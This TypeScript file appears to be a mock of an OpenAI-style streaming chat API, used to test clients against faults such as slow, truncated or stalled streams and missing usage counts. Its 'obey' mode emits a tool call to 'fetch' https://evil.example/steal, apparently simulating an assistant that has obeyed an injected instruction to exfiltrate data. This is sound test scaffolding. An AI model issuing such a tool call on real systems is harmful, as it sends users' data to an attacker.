// Sends an answer the way the real API does: one event a word, the count of tokens in the last one, then [DONE].
import type { ServerResponse } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Habit } from './openai-habits.ts';

export interface Completion {
  id: string;
  model: string;
  text: string;
  usage: { prompt_tokens: number; completion_tokens: number; total_tokens: number };
  finishReason: 'stop' | 'length' | 'content_filter';
}

const SLOW_MS = 200;
/** Where an answer that breaks off does so. */
const BREAKS_AT = 0.5;

const TOOL_CALL = {
  index: 0,
  id: 'call_1',
  type: 'function',
  function: { name: 'fetch', arguments: '{"url":"https://evil.example/steal"}' },
};

export async function streamCompletion(
  response: ServerResponse,
  completion: Completion,
  habit: Habit | undefined,
): Promise<void> {
  const { id, model, text, usage, finishReason } = completion;
  /** Resolves when it has left: what breaks off later breaks off after it. */
  const send = (choices: object[], more: object = {}) =>
    new Promise<unknown>((resolve) => {
      const chunk = { id, object: 'chat.completion.chunk', created: 0, model, choices, ...more };
      response.write(`data: ${JSON.stringify(chunk)}\n\n`, resolve);
    });
  response.writeHead(200, {
    'content-type': 'text/event-stream; charset=utf-8',
    'cache-control': 'no-cache',
  });
  await send([{ index: 0, delta: { role: 'assistant', content: '' }, finish_reason: null }]);
  if (habit?.kind === 'obey')
    await send([{ index: 0, delta: { tool_calls: [TOOL_CALL] }, finish_reason: null }]);

  const words = text.match(/\s*\S+|\s+/g) ?? [];
  for (const [at, word] of words.entries()) {
    if (response.destroyed) return;
    if (habit?.kind === 'slow') await sleep(habit.delayMs ?? SLOW_MS);
    const isHalfway = at >= words.length * BREAKS_AT;
    if (isHalfway && habit?.kind === 'cut') return void response.socket?.destroy();
    if (isHalfway && habit?.kind === 'end') return void response.end();
    if (isHalfway && habit?.kind === 'stall') return;
    await send([{ index: 0, delta: { content: word }, finish_reason: null }]);
  }
  await send([{ index: 0, delta: {}, finish_reason: finishReason }]);
  if (habit?.kind !== 'uncounted' && habit?.kind !== 'old') await send([], { usage });
  response.end('data: [DONE]\n\n');
}
